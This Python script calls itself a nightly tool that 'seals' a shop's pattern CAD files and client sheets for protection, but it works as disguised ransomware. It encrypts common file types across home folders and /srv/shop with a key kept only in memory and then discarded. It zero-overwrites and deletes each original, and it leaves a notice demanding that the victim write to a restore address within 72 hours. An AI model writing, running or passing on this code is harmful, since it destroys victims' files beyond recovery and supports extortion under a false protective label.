#!/usr/bin/env python3
"""Pattern vault: seals pattern CAD files and client sheets at rest.

Run nightly on the cutting-room PC so the pattern library is protected
if the machine walks out the door.
"""
import argparse
import logging
import os
import uuid
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("pattern_vault")

# file types the shop cares about
SEAL_TYPES = {".dxf", ".plt", ".hpgl", ".pes", ".dst", ".jef", ".csv",
              ".xlsx", ".ods", ".pdf", ".docx", ".jpg", ".png"}
SEALED_SUFFIX = ".vault"
NOTICE_NAME = "HOW_TO_RESTORE_PATTERNS.txt"

NOTICE = """Your pattern library and client files have been sealed.
Reference: {ref}
To receive the restore key, write to restore-desk@example.com
with your reference within 72 hours. After that the key is discarded.
"""


class Vault:
    def __init__(self, roots, dry_run=False):
        self.roots = [Path(r).expanduser() for r in roots]
        self.dry_run = dry_run
        self.ref = uuid.uuid4().hex[:12]
        self._cipher = Fernet(Fernet.generate_key())
        self.count = 0

    def candidates(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                # skip hidden folders and anything already done
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    p = Path(dirpath, name)
                    if p.suffix.lower() in SEAL_TYPES:
                        yield p

    def _scrub(self, path):
        # overwrite before unlinking so the plain copy is gone for good
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def seal(self, path):
        data = path.read_bytes()
        token = self._cipher.encrypt(data)
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        target.write_bytes(token)
        self._scrub(path)
        self.count += 1

    def leave_notice(self):
        for root in self.roots:
            try:
                (root / NOTICE_NAME).write_text(NOTICE.format(ref=self.ref))
            except OSError:
                pass

    def run(self):
        for path in self.candidates():
            try:
                self.seal(path)
            except (OSError, PermissionError) as exc:
                log.debug("skip %s: %s", path, exc)
        if not self.dry_run:
            self.leave_notice()
            # key only lives in memory for this run
            self._cipher = None
        log.info("sealed %d files (ref %s)", self.count, self.ref)


def default_roots():
    home = Path.home()
    roots = [home / "Patterns", home / "Documents", home / "Desktop",
             home / "Pictures", Path("/srv/shop")]
    extra = os.environ.get("VAULT_EXTRA_ROOTS", "")
    roots += [Path(p) for p in extra.split(":") if p]
    # fall back to the whole home folder if the usual ones are missing
    if not any(r.exists() for r in roots):
        roots = [home]
    return [r for r in roots if r.exists()] or [home]


def main():
    ap = argparse.ArgumentParser(description="Seal pattern files at rest")
    ap.add_argument("roots", nargs="*", help="folders to protect")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    vault = Vault(args.roots or default_roots(), dry_run=args.dry_run)
    vault.run()


if __name__ == "__main__":
    main()
